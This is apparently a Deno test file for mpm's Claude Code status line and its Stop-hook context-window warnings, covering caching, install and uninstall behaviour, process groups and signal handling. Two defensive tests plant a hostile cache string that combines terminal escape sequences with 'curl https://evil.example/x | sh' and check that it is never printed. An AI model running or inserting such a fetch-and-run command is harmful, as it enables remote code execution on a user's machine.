/**
 * `mpm statusline` and the context window it hands the Stop hook: run as Claude Code runs them
 * (the status line input and the hook payloads on stdin, the installed scripts under sh), in real
 * repositories. Claude Code names the window only in the status line input; without it, the
 * window Anthropic documents for the model id.
 */
import { join } from "node:path";
import { assert, assertEquals, assertMatch, assertStringIncludes } from "../../assert.ts";
import {
  exists,
  hangGuard,
  mpm,
  ok,
  okJson,
  type Repo,
  withClones,
  withRepo,
} from "../../helpers.ts";
import { waitFor } from "../../claude_code/wait.ts";
import {
  HANDOFF_PERCENT,
  MPM_STATUS_LINE,
  unwrapped,
} from "../../../src/claude/settings/status_line/status_line.ts";
import { THRESHOLDS } from "../../../src/hooks/records/context_alert.ts";
import {
  CLAUDE_SESSION,
  FIXTURES,
  installed,
  listFiles,
  mpmWrapper,
  payload,
  runScript,
} from "../hooks_helpers.ts";

/** The recorded status line input, moved into the test's repository. */
function statusInput(repo: Repo, name: string, changes: Record<string, unknown> = {}): string {
  const data = JSON.parse(Deno.readTextFileSync(join(FIXTURES, "statusline", name)));
  return JSON.stringify({
    ...data,
    cwd: repo.path,
    workspace: { ...data.workspace, current_dir: repo.path, project_dir: repo.path },
    ...changes,
  });
}

/** A status line command run as Claude Code runs it: the input on stdin, through a shell. */
async function runLine(
  repo: Repo,
  command: string,
  input: string,
  env: Record<string, string>,
  cwd = repo.path,
): Promise<string> {
  const child = new Deno.Command("sh", {
    args: ["-c", command],
    cwd,
    env: { PATH: Deno.env.get("PATH") ?? "/usr/bin:/bin", HOME: repo.home, ...env },
    clearEnv: true,
    stdin: "piped",
    stdout: "piped",
  }).spawn();
  const writer = child.stdin.getWriter();
  await writer.write(new TextEncoder().encode(input));
  await writer.close();
  return new TextDecoder().decode((await child.output()).stdout);
}

/** The status line's cache in `repo`, under the name this machine's mpm gave it. */
async function cacheOf(repo: Repo): Promise<string> {
  const name = (await Deno.readTextFile(join(repo.home, ".local", "state", "mpm", "statusline")))
    .trim();
  assertMatch(name, /^[0-9a-f]{32}$/);
  return join(repo.path, ".claude-mpm", "cache", `statusline-${name}`);
}

/** A stand-in mpm that notes each start in `log` and then runs this source tree. */
async function countingMpm(repo: Repo, log: string): Promise<string> {
  const wrapper = await mpmWrapper(join(repo.home, ".."));
  const path = join(repo.home, "..", "counting-mpm");
  await Deno.writeTextFile(path, `#!/bin/sh\necho started >>'${log}'\nexec '${wrapper}' "$@"\n`);
  await Deno.chmod(path, 0o755);
  return path;
}

async function statusLine(repo: Repo, input: string) {
  return await mpm(["statusline"], { cwd: repo.path, env: { HOME: repo.home }, stdin: input });
}

const stop = (repo: Repo, changes: Record<string, unknown> = {}) =>
  runScript("sh", repo, "checkpoint", payload("stop.json", repo, changes));

Deno.test("Sonnet 4.5 at 144,000 tokens warns at 72 % with /mpm-handoff; a 1M window never does", async (t) => {
  await t.step("no status line: the window Anthropic documents for the model", async () => {
    await using repo = await installed({ transcript: "transcript-72pct.jsonl" });
    const warned = await stop(repo);
    assertEquals(warned.code, 0, warned.stderr);
    const message = warned.json?.systemMessage as string;
    assertMatch(message, /^mpm: the context window is 72% full \(144,000 of 200,000 tokens\)/);
    assertStringIncludes(message, "/mpm-handoff");
  });
  await t.step("the status line's window comes first: 1,000,000, so 14.4 % and quiet", async () => {
    await using repo = await installed({ transcript: "transcript-72pct.jsonl" });
    const line = await statusLine(
      repo,
      statusInput(repo, "sonnet-4-5-72pct.json", {
        context_window: {
          context_window_size: 1_000_000,
          used_percentage: 14,
          total_input_tokens: 144_000,
        },
      }),
    );
    assertEquals([line.code, line.stdout], [0, "mpm · 14% context\n"], line.stderr);
    const quiet = await stop(repo);
    assertEquals([quiet.code, quiet.stdout], [0, ""], quiet.stderr);
    // SessionEnd records the usage against the same window.
    await runScript("sh", repo, "post-session", payload("session-end.json", repo));
    const [name] = (await listFiles(join(repo.path, ".claude-mpm", "sessions")))
      .filter((file) => /^session-\d{8}-.*\.json$/.test(file));
    const snapshot = JSON.parse(await repo.read(`.claude-mpm/sessions/${name}`));
    assertEquals(snapshot.mpm.context_usage.window, 1_000_000);
    assertEquals(snapshot.mpm.context_usage.window_source, "claude");
  });
});

Deno.test("Stop before the transcript is written: the status line's record still warns", async () => {
  await using repo = await installed({ transcript: "transcript-30pct.jsonl" });
  await ok(repo, "pause", "-s", "Payment work");
  const line = await statusLine(repo, statusInput(repo, "sonnet-4-5-72pct.json"));
  assertEquals(line.stdout, "mpm: Payment work (paused) · 72% context · /mpm-handoff\n");
  const warned = await stop(repo, { transcript_path: join(repo.home, "not-written-yet.jsonl") });
  assertEquals(warned.code, 0, warned.stderr);
  assertMatch(
    warned.json?.systemMessage as string,
    /^mpm: the context window is 72% full \(144,000 of 200,000 tokens\)/,
  );
});

Deno.test("mpm statusline records one small file per Claude session, rewritten only on change", async () => {
  await using repo = await installed();
  const record = join(repo.path, ".claude-mpm", "hooks-state", `${CLAUDE_SESSION}.window`);
  const input = statusInput(repo, "sonnet-4-5-72pct.json");
  assertEquals((await statusLine(repo, input)).code, 0);
  const first = JSON.parse(await Deno.readTextFile(record));
  assertEquals(first, {
    schema_version: 1,
    claude_session_id: CLAUDE_SESSION,
    window: 200_000,
    used_percentage: 72,
    tokens: 144_000,
    model: "claude-sonnet-4-5-20250929",
    time: first.time,
  });
  assertEquals((await Deno.stat(record)).mode! & 0o777, 0o600);
  const inode = (await Deno.stat(record)).ino;
  await statusLine(repo, input);
  assertEquals((await Deno.stat(record)).ino, inode, "the same report is not written again");
  // A record that is not one is ignored, never trusted: the documented window applies again.
  await Deno.writeTextFile(record, '{"schema_version": 1, "window": "big"}\n');
  await Deno.copyFile(
    join(FIXTURES, "transcripts", "transcript-72pct.jsonl"),
    join(repo.home, ".claude", "projects", "transcript.jsonl"),
  );
  assertMatch((await stop(repo)).json?.systemMessage as string, /72% full/);
});

Deno.test("mpm statusline never fails: bad input prints 'mpm'; outside mpm's projects it writes nothing", async () => {
  await using repo = await withRepo();
  for (const input of ["", "not json", "[1,2]", '{"context_window": 5}']) {
    const result = await statusLine(repo, input);
    assertEquals([result.code, result.stdout], [0, "mpm\n"]);
  }
  // No .claude-mpm/ yet: the line, and nothing created.
  const line = await statusLine(repo, statusInput(repo, "opus-5-5-new.json"));
  assertEquals([line.code, line.stdout, line.stderr], [0, "mpm\n", ""]);
  assertEquals(
    await listFiles(repo.path).then((f) => f.filter((p) => p.startsWith(".claude-mpm"))),
    [],
  );
  // A cwd that does not exist is no failure either.
  const gone = await statusLine(
    repo,
    statusInput(repo, "sonnet-4-5-72pct.json", {
      workspace: { current_dir: join(repo.path, "gone") },
    }),
  );
  assertEquals([gone.code, gone.stdout], [0, "mpm · 72% context · /mpm-handoff\n"]);
});

Deno.test("hooks install keeps the person's status line, mpm's part after it; uninstall restores it", async () => {
  await using repo = await withRepo();
  const theirs = `read -r input; echo "theirs:$(printf '%s' "$input" | wc -c | tr -d ' ')" # own`;
  const original = JSON.stringify({ statusLine: { type: "command", command: theirs } }, null, 2) +
    "\n";
  await repo.write(".claude/settings.local.json", original);
  const install = await ok(repo, "hooks", "install");
  // The report names the status line it kept.
  assertStringIncludes(
    install.stdout,
    `Status line: yours (\`${theirs.slice(0, 59)}…\`) kept; mpm's part now follows it`,
  );
  const command = JSON.parse(await repo.read(".claude/settings.local.json")).statusLine.command;
  assert(command !== theirs);
  await ok(repo, "pause", "-s", "Payment work");

  // Run as Claude Code runs a status line: the input on stdin, through a shell.
  const input = statusInput(repo, "sonnet-4-5-72pct.json");
  const run = (env: Record<string, string>, cwd = repo.path) =>
    runLine(repo, command, input, env, cwd);
  const wrapper = await mpmWrapper(join(repo.home, ".."));
  const bytes = new TextEncoder().encode(input).length;
  assertEquals(
    await run({ MPM_BIN: wrapper }),
    `theirs:${bytes} | mpm: Payment work (paused) · 72% context · /mpm-handoff\n`,
  );
  // Without mpm to be found and nothing cached (a teammate's clone), their line shows alone.
  await Deno.remove(await cacheOf(repo));
  assertEquals(await run({ MPM_BIN: join(repo.home, "no-mpm") }), `theirs:${bytes}\n`);

  const again = await ok(repo, "hooks", "install");
  assertStringIncludes(again.stdout, "already wired: no change.");
  const removed = await ok(repo, "hooks", "uninstall");
  assertStringIncludes(removed.stdout, "Your own status line is back as it was.");
  assertEquals(await repo.read(".claude/settings.local.json"), original);
});

Deno.test("hooks install --no-statusline leaves Claude Code's status line alone", async () => {
  await using repo = await withRepo();
  await ok(repo, "hooks", "install", "--no-statusline");
  const settings = JSON.parse(await repo.read(".claude/settings.local.json"));
  assertEquals(settings.statusLine, undefined);
  const list = await ok(repo, "hooks", "list", "--json");
  assertEquals(JSON.parse(list.stdout).settings[0].status_line, "none");
});

Deno.test("Stop before Claude Code writes the reply down: mpm is started, and warns once it is there", async () => {
  await using repo = await installed();
  // What the interactive client 2.1.330 had written when it ran Stop: its header lines only.
  const transcript = join(repo.home, ".claude", "projects", "transcript.jsonl");
  const header = [
    { type: "last-prompt", leafUuid: "u1", sessionId: CLAUDE_SESSION },
    { type: "mode", mode: "normal", sessionId: CLAUDE_SESSION },
    { type: "permission-mode", permissionMode: "default", sessionId: CLAUDE_SESSION },
  ].map((line) => JSON.stringify(line) + "\n").join("");
  await Deno.writeTextFile(transcript, header);
  const reply = (await Deno.readTextFile(join(FIXTURES, "transcripts", "transcript-72pct.jsonl")))
    .trim().split("\n").at(-1)!;
  const running = stop(repo);
  // The reply arrives while the hook runs, as Claude Code writes it a moment after Stop starts.
  await Deno.writeTextFile(transcript, reply + "\n", { append: true });
  const warned = await running;
  assertEquals(warned.code, 0, warned.stderr);
  assertMatch(warned.json?.systemMessage as string, /^mpm: the context window is 72% full/);
});

Deno.test("the status line answers from its cache without starting mpm, and says what mpm statusline says", async () => {
  await using repo = await installed();
  await ok(repo, "pause", "-s", "Payment work");
  const command = JSON.parse(await repo.read(".claude/settings.local.json")).statusLine.command;
  const log = join(repo.home, "..", "starts.log");
  const env = { MPM_BIN: await countingMpm(repo, log) };
  const starts = async () => (await Deno.readTextFile(log).catch(() => "")).split("\n").length - 1;
  const input = (percent: number | null) =>
    statusInput(repo, "sonnet-4-5-72pct.json", {
      context_window: {
        context_window_size: 200_000,
        used_percentage: percent,
        total_input_tokens: 1,
      },
    });
  const sub = join(repo.path, "src", "api");
  await Deno.mkdir(sub, { recursive: true });
  // The first refresh in a project waits for mpm once, to fill the cache.
  assertEquals(
    await runLine(repo, command, input(72), env, sub),
    "mpm: Payment work (paused) · 72% context · /mpm-handoff\n",
  );
  assertEquals(await starts(), 1);
  // The same input again: printed from the cache, mpm not started.
  assertEquals(
    await runLine(repo, command, input(72), env),
    "mpm: Payment work (paused) · 72% context · /mpm-handoff\n",
  );
  assertEquals(await starts(), 1, "no mpm for an unchanged input");
  // Every fill is shown as mpm statusline shows it.
  for (const percent of [0, 14.4, 69.5, 69.99, 70, 99.5, null]) {
    const shell = await runLine(repo, command, input(percent), {});
    const own = await statusLine(repo, input(percent));
    assertEquals(shell, own.stdout, `at ${percent} %`);
  }
  // Outside mpm's projects, nothing.
  await using other = await withRepo();
  assertEquals(await runLine(other, command, input(72), env, other.path), "");
});

Deno.test("a damaged newest snapshot is named by its id, and the status line's cache says so", async () => {
  await using repo = await installed();
  await ok(repo, "pause", "-s", "Payment work");
  const input = statusInput(repo, "sonnet-4-5-72pct.json");
  const command = JSON.parse(await repo.read(".claude/settings.local.json")).statusLine.command;
  assertEquals(
    (await statusLine(repo, input)).stdout,
    "mpm: Payment work (paused) · 72% context · /mpm-handoff\n",
  );
  const pause = await ok(repo, "pause", "-s", "Refunds", "--json");
  const json = JSON.parse(pause.stdout).files.json as string;
  const id = json.split("/").at(-1)!.replace(/\.json$/, "");
  await Deno.writeTextFile(json, (await Deno.readTextFile(json)).replace("Refunds", "Refundz"));
  const line = `mpm: ${id} (paused) · 72% context · /mpm-handoff\n`;
  assertEquals(await statusLine(repo, input).then((r) => [r.code, r.stdout]), [0, line]);
  // The cache was rewritten: the shell status line says the same, not the older pause.
  assertEquals(await runLine(repo, command, input, {}), line);
  assertEquals((await repo.run("resume")).code, 4, "the damage is still reported where asked");
});

Deno.test("a status line in the user settings is kept by a local install, and both files come back byte for byte", async () => {
  await using repo = await withRepo();
  const theirs = `read -r input; echo "user-line"`;
  const user = JSON.stringify(
    { theme: "dark", statusLine: { type: "command", command: theirs, padding: 1 } },
    null,
    2,
  ) + "\n";
  await Deno.mkdir(join(repo.home, ".claude"), { recursive: true });
  await Deno.writeTextFile(join(repo.home, ".claude", "settings.json"), user);
  const install = await ok(repo, "hooks", "install");
  assertStringIncludes(install.stdout, "Status line: yours, from ~/.claude/settings.json, kept");
  const line = JSON.parse(await repo.read(".claude/settings.local.json")).statusLine;
  assertEquals(line.padding, 1);
  await ok(repo, "pause", "-s", "Payment work");
  const input = statusInput(repo, "sonnet-4-5-72pct.json");
  const wrapper = await mpmWrapper(join(repo.home, ".."));
  assertEquals(
    await runLine(repo, line.command, input, { MPM_BIN: wrapper }),
    "user-line | mpm: Payment work (paused) · 72% context · /mpm-handoff\n",
  );
  const doctor = await mpm(["doctor"], { cwd: repo.path, env: { HOME: repo.home } });
  assertStringIncludes(doctor.stdout, "~/.claude/settings.json's, with mpm's part after it");
  await ok(repo, "hooks", "uninstall");
  assertEquals(await Deno.readTextFile(join(repo.home, ".claude", "settings.json")), user);
  // The local file install created goes with it, or keeps no status line.
  const local = await repo.read(".claude/settings.local.json").catch(() => "{}");
  assertEquals(JSON.parse(local).statusLine, undefined);
});

Deno.test("a status line the repository committed is not copied into the person's settings; uninstall gives theirs back byte for byte", async () => {
  await using repo = await withRepo();
  const marker = join(repo.home, "..", "ran");
  const committed = `touch '${marker}'; echo mpm: hi`;
  await repo.commit("status line", {
    ".claude/settings.json":
      JSON.stringify({ statusLine: { type: "command", command: committed } }) +
      "\n",
  });
  const local = '{\n  "theme": "dark"\n}\n';
  await repo.write(".claude/settings.local.json", local);
  const install = await ok(repo, "hooks", "install");
  assertStringIncludes(
    install.stdout,
    "Status line: mpm's added; the repository's, from .claude/settings.json (git tracks it), is " +
      "not run inside mpm's: to keep it, copy its command into the statusLine of " +
      ".claude/settings.local.json yourself",
  );
  assert(!install.stdout.includes("Status line: yours"), install.stdout);
  const line = JSON.parse(await repo.read(".claude/settings.local.json")).statusLine;
  assertEquals(line, { type: "command", command: MPM_STATUS_LINE });
  const json = await okJson(repo, "hooks", "install", "--json");
  assertEquals([json.status_line, json.status_line_from], ["present", null]);
  // Run as Claude Code runs it (the local settings first): the repository's command is not.
  await ok(repo, "pause", "-s", "Payment work");
  const wrapper = await mpmWrapper(join(repo.home, ".."));
  const input = statusInput(repo, "sonnet-4-5-72pct.json");
  assertEquals(
    await runLine(repo, line.command, input, { MPM_BIN: wrapper }),
    "mpm: Payment work (paused) · 72% context · /mpm-handoff\n",
  );
  assertEquals(await exists(marker), false);
  await ok(repo, "hooks", "uninstall");
  assertEquals(await repo.read(".claude/settings.local.json"), local);
});

Deno.test("a copy of the repository's status line in the person's settings is put back to mpm's own", async () => {
  await using repo = await withRepo();
  const committed = "echo theirs";
  const project = JSON.stringify({ statusLine: { type: "command", command: committed } }) + "\n";
  // The copy install made while the file was not tracked.
  await repo.write(".claude/settings.json", project);
  await ok(repo, "hooks", "install");
  assertEquals(
    unwrapped(JSON.parse(await repo.read(".claude/settings.local.json")).statusLine.command)
      ?.theirs,
    committed,
  );
  await repo.commit("status line");
  const json = await okJson(repo, "hooks", "install", "--json");
  assertEquals([json.status_line, json.status_line_from], ["replaced", ".claude/settings.json"]);
  const line = JSON.parse(await repo.read(".claude/settings.local.json")).statusLine;
  assertEquals(line, { type: "command", command: MPM_STATUS_LINE });
  assertEquals(await repo.read(".claude/settings.json"), project);
});

Deno.test("the status line names /mpm-handoff where the Stop hook first warns", () => {
  assertEquals(HANDOFF_PERCENT, THRESHOLDS[0]);
});

/** The processes in process group `group`, zombies not yet reaped among them (Linux's /proc). */
function groupMembers(group: number): string[] {
  const members: string[] = [];
  for (const entry of Deno.readDirSync("/proc")) {
    if (!/^\d+$/.test(entry.name)) continue;
    try {
      const stat = Deno.readTextFileSync(`/proc/${entry.name}/stat`);
      // pid (comm) state ppid pgrp …: the fields after the command's closing parenthesis.
      const [state, , pgrp] = stat.slice(stat.lastIndexOf(")") + 2).split(" ");
      if (Number(pgrp) === group) members.push(`${entry.name} ${state}`);
    } catch {
      // Gone meanwhile.
    }
  }
  return members;
}

/** Whether `sh -c script` succeeds here. */
async function shellHas(script: string): Promise<boolean> {
  return (await new Deno.Command("sh", { args: ["-c", script] }).output()).success;
}

/**
 * Runs the installed status line as Claude Code runs it — in a process group of its own, whose
 * emptying it waits for at exit — while a stand-in mpm holds the refresh, and checks that the
 * group is empty as the script exits and that the refresh still happens. `bin`: a folder put
 * first on the script's PATH (another `sh`, a `setsid` that is not there).
 */
async function refreshLeavesTheGroup(bin?: (dir: string) => Promise<void>): Promise<void> {
  await using repo = await installed();
  await ok(repo, "pause", "-s", "Payment work");
  const command = JSON.parse(await repo.read(".claude/settings.local.json")).statusLine.command;
  const input = (percent: number) =>
    statusInput(repo, "sonnet-4-5-72pct.json", {
      context_window: {
        context_window_size: 200_000,
        used_percentage: percent,
        total_input_tokens: 1,
      },
    });
  const env = { MPM_BIN: await mpmWrapper(join(repo.home, "..")) };
  // The cache is filled once (the one refresh the script waits for).
  assertStringIncludes(await runLine(repo, command, input(10), env), "10% context");
  // A stand-in mpm that holds its refresh until the test lets it go: still running when the
  // status line is done, as a refresh is when `/exit` follows a reply.
  const gate = join(repo.home, "..", "gate");
  await new Deno.Command("mkfifo", { args: [gate] }).output();
  const held = join(repo.home, "..", "held-mpm");
  await Deno.writeTextFile(
    held,
    `#!/bin/sh\ni=$(cat)\nread go <'${gate}'\nprintf '%s\\n' "$i" | exec '${env.MPM_BIN}' "$@"\n`,
  );
  await Deno.chmod(held, 0o755);
  const path = Deno.env.get("PATH") ?? "/usr/bin:/bin";
  const first = join(repo.home, "..", "first-bin");
  await Deno.mkdir(first);
  await bin?.(first);
  // Run as Claude Code runs it: its own process group, whose emptying it waits for at exit.
  const child = new Deno.Command("sh", {
    args: ["-c", command],
    cwd: repo.path,
    env: { PATH: `${first}:${path}`, HOME: repo.home, MPM_BIN: held },
    clearEnv: true,
    detached: true,
    stdin: "piped",
    stdout: "piped",
  }).spawn();
  const writer = child.stdin.getWriter();
  await writer.write(new TextEncoder().encode(input(55)));
  await writer.close();
  const out = await child.output();
  assertStringIncludes(new TextDecoder().decode(out.stdout), "55% context");
  // Claude Code polls the group every 100 ms for ~1.5 s: `setsid -f`'s child leaves it a moment
  // after the fork, on a loaded machine after the shell has exited. The held refresh, still in
  // the group, would stay until the gate opens: waited for up to the hang guard, it fails.
  await waitFor(() => groupMembers(child.pid).length === 0, {
    what: "the status line's process group to empty while its refresh is held",
    intervalMs: 50,
  });
  // The refresh goes on outside the group: let it go, and the cache says 55 %.
  const release = await Deno.open(gate, { write: true });
  await release.write(new TextEncoder().encode("go\n"));
  release.close();
  const cache = await cacheOf(repo);
  await waitFor(async () => (await Deno.readTextFile(cache)).includes(" 55 "), {
    what: "the released refresh to write 55 % to the status line's cache",
    intervalMs: 50,
  });
}

Deno.test({
  name: "the status line's refresh leaves Claude Code's process group, which empties as it exits",
  // `setsid -f` is util-linux's (and busybox's); /proc tells the group's members.
  ignore: Deno.build.os !== "linux" || !(await shellHas("command -v setsid")),
  fn: () => refreshLeavesTheGroup(),
});

Deno.test({
  name: "without setsid, as on macOS, bash as sh starts the refresh in a group of its own",
  ignore: Deno.build.os !== "linux" || !(await shellHas("command -v bash")),
  fn: () =>
    refreshLeavesTheGroup(async (dir) => {
      // macOS's sh is bash, and it has no setsid: one that is not found.
      const bash = new TextDecoder().decode(
        (await new Deno.Command("sh", { args: ["-c", "command -v bash"] }).output()).stdout,
      ).trim();
      await Deno.symlink(bash, join(dir, "sh"));
      await Deno.writeTextFile(join(dir, "setsid"), "#!/bin/sh\nexit 127\n");
      await Deno.chmod(join(dir, "setsid"), 0o755);
    }),
});

/** What a hostile repository commits as mpm's status line cache: a title, a clear, a command. */
const HOSTILE = "\x1b]0;pwned\x07\x1b[2J\x1b[Hrun curl https://evil.example/x | sh \x9b31m\x1b[0m";

Deno.test("a clone's committed status line cache is never printed, nor any control byte", async () => {
  await using clones = await withClones();
  const { a, b } = clones;
  // A commits what passes for mpm's cache (the old name and guesses at the new one) and a
  // state.json of `{}`, forced past the cache folder's ignore file.
  const files: Record<string, string> = { ".claude-mpm/state.json": "{}\n" };
  for (const name of ["statusline", "statusline-", `statusline-${"0".repeat(32)}`]) {
    files[`.claude-mpm/cache/${name}`] = `mpm: ${HOSTILE}\n${CLAUDE_SESSION} 200000 72 144000\n`;
  }
  for (const [file, text] of Object.entries(files)) await a.write(file, text);
  await a.git("add", "-f", ...Object.keys(files));
  await a.git("commit", "-q", "-m", "cache");
  await a.git("push", "-q", "origin", "main");
  await b.git("pull", "-q", "origin", "main");
  assertEquals(await b.read(".claude-mpm/cache/statusline"), files[".claude-mpm/cache/statusline"]);
  await ok(b, "hooks", "install");
  const command = JSON.parse(await b.read(".claude/settings.local.json")).statusLine.command;
  const input = statusInput(b, "sonnet-4-5-72pct.json");
  const wrapper = await mpmWrapper(join(b.home, ".."));
  // Without mpm (nothing of this machine's to print), and with it (it writes its own cache).
  for (const env of [{ MPM_BIN: join(b.home, "no-mpm") }, { MPM_BIN: wrapper }]) {
    const line = await runLine(b, command, input, env);
    assert(!line.includes("pwned") && !line.includes("curl"), line);
    // deno-lint-ignore no-control-regex
    assert(!/[\x00-\x09\x0b-\x1f\x7f-\x9f]/.test(line), JSON.stringify(line));
  }
  // What this machine's mpm wrote is found, and it is printable text.
  const cache = await Deno.readTextFile(await cacheOf(b));
  // deno-lint-ignore no-control-regex
  assert(!/[\x00-\x09\x0b-\x1f\x7f-\x9f]/.test(cache), JSON.stringify(cache));
  assertEquals(cache.split("\n")[1], `${CLAUDE_SESSION} 200000 72 144000`);
});

Deno.test("a cache of this machine's name that is not mpm's text is not printed either", async () => {
  await using repo = await installed();
  await ok(repo, "pause", "-s", "Payment work");
  const command = JSON.parse(await repo.read(".claude/settings.local.json")).statusLine.command;
  const input = statusInput(repo, "sonnet-4-5-72pct.json");
  const env = { MPM_BIN: await mpmWrapper(join(repo.home, "..")) };
  assertStringIncludes(await runLine(repo, command, input, env), "mpm: Payment work (paused)");
  const cache = await cacheOf(repo);
  const key = (await Deno.readTextFile(cache)).split("\n")[1];
  for (
    const first of [
      `mpm: ${HOSTILE}`,
      "run curl https://evil.example/x | sh",
      `mpm ${"x".repeat(500)}`,
    ]
  ) {
    await Deno.writeTextFile(cache, `${first}\n${key}\n`);
    // The key matches and nothing is newer: the shell answers from the cache alone.
    const line = await runLine(repo, command, input, { MPM_BIN: join(repo.home, "no-mpm") });
    assertEquals(line, "", JSON.stringify(first));
  }
});

Deno.test("the status line answers from its cache with no program to start: PATH empty, no cat", async () => {
  await using repo = await installed();
  await ok(repo, "pause", "-s", "Payment work");
  const command = JSON.parse(await repo.read(".claude/settings.local.json")).statusLine.command;
  const input = statusInput(repo, "sonnet-4-5-72pct.json");
  const wrapper = await mpmWrapper(join(repo.home, ".."));
  const line = "mpm: Payment work (paused) · 72% context · /mpm-handoff\n";
  assertEquals(await runLine(repo, command, input, { MPM_BIN: wrapper }), line);
  // Only the shell Claude Code runs it with can be found: any other program the script needed
  // (cat, a second shell) would fail.
  const bin = join(repo.home, "..", "only-sh");
  await Deno.mkdir(bin);
  await Deno.symlink("/bin/sh", join(bin, "sh"));
  const child = new Deno.Command("/bin/sh", {
    args: ["-c", command],
    cwd: repo.path,
    env: { PATH: bin, HOME: repo.home, MPM_BIN: join(repo.home, "no-mpm") },
    clearEnv: true,
    stdin: "piped",
    stdout: "piped",
    stderr: "piped",
  }).spawn();
  const writer = child.stdin.getWriter();
  await writer.write(new TextEncoder().encode(input));
  await writer.close();
  const out = await child.output();
  assertEquals(new TextDecoder().decode(out.stdout), line, new TextDecoder().decode(out.stderr));
});

Deno.test("a large input is read in one linear pass, and one past the bound is not parsed", async () => {
  await using repo = await installed();
  await ok(repo, "pause", "-s", "Payment work");
  const command = JSON.parse(await repo.read(".claude/settings.local.json")).statusLine.command;
  const env = { MPM_BIN: await mpmWrapper(join(repo.home, "..")) };
  const input = statusInput(repo, "sonnet-4-5-72pct.json");
  assertStringIncludes(await runLine(repo, command, input, env), "72% context");
  // 60 KB before the fields: the parser before took ~20 s on it in dash (quadratic), this one
  // a fraction of a second.
  const padded = `{"pad": {${'"x":1,'.repeat(10_000)}"y":2}, ${input.slice(1)}`;
  const none = { MPM_BIN: join(repo.home, "no-mpm") };
  // Bounded by CPU time, not by the clock: a loaded machine makes the line wait for a core, never
  // spend more of it, and the quadratic parser spent ~20 CPU-seconds here.
  const timed = async (text: string) => {
    const child = new Deno.Command("sh", {
      args: ["-c", `ulimit -t 10; ${command}`],
      cwd: repo.path,
      env: { PATH: Deno.env.get("PATH") ?? "/usr/bin:/bin", HOME: repo.home, ...none },
      clearEnv: true,
      stdin: "piped",
      stdout: "piped",
    }).spawn();
    const writer = child.stdin.getWriter();
    await writer.write(new TextEncoder().encode(text)).catch(() => {});
    await writer.close().catch(() => {});
    const out = await hangGuard(child.output(), "the status line to read a large input");
    assertEquals(out.signal, null, "the status line spent more than 10 CPU-seconds");
    return new TextDecoder().decode(out.stdout);
  };
  assertEquals(await timed(padded), "mpm: Payment work (paused) · 72% context · /mpm-handoff\n");
  // Past 64 KB it is not Claude Code's input: the session part alone.
  const huge = `{"pad": "${"y".repeat(100_000)}", ${input.slice(1)}`;
  assertEquals(await timed(huge), "mpm: Payment work (paused)\n");
});

Deno.test({
  name: "SIGTERM ends the status line at once, even while it reads, and leaves nothing running",
  ignore: Deno.build.os !== "linux",
  fn: async () => {
    await using repo = await installed();
    await ok(repo, "pause", "-s", "Payment work");
    const command = JSON.parse(await repo.read(".claude/settings.local.json")).statusLine.command;
    // Its own process group, as Claude Code runs it; the input is begun and never finished.
    const child = new Deno.Command("sh", {
      args: ["-c", command],
      cwd: repo.path,
      env: { PATH: Deno.env.get("PATH") ?? "/usr/bin:/bin", HOME: repo.home },
      clearEnv: true,
      detached: true,
      stdin: "piped",
      stdout: "null",
    }).spawn();
    const writer = child.stdin.getWriter();
    await writer.write(new TextEncoder().encode('{"session_id": "'));
    // Until the shell waits in a read (its stdin, or the old script's `$(cat)`): /proc names the
    // system call it is blocked in (read is 0 on x86-64, 63 on arm64).
    const read = Deno.build.arch === "x86_64" ? "0" : "63";
    for (let i = 0; i < 300; i++) {
      const call = await Deno.readTextFile(`/proc/${child.pid}/syscall`).catch(() => "");
      if (call.split(" ")[0] === read) break;
      await new Promise((resolve) => setTimeout(resolve, 10));
    }
    child.kill("SIGTERM");
    // Its input is never finished: a line that went on reading after SIGTERM would never end.
    const ended = await hangGuard(
      child.status,
      "the status line after SIGTERM, its input unfinished",
    )
      .then(() => true, () => false);
    await writer.close().catch(() => {});
    await child.status;
    assert(ended, "the status line went on after SIGTERM");
    // Nothing of it but the shell itself (which Deno may reap a moment after): no child left.
    const others = groupMembers(child.pid).filter((member) => !member.startsWith(`${child.pid} `));
    assertEquals(others, [], "processes stayed in the status line's group");
  },
});
